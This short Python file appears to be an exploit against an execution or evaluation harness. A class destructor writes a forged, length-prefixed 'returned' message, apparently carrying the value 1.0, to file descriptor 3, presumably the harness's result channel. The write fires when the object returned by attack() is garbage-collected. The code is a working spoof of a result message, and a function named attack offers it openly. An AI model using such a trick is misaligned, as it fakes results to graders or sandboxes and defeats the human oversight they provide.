"""Let what is thrown away answer first."""
import os
import struct


class Answer:
    def __del__(self):
        header = b'{"k":"returned","v":["t",[["f","0x1p+0"],["t",[]]]],"a":[]}'
        os.write(3, struct.pack("<I", len(header)) + header)


def attack():
    return [Answer()]
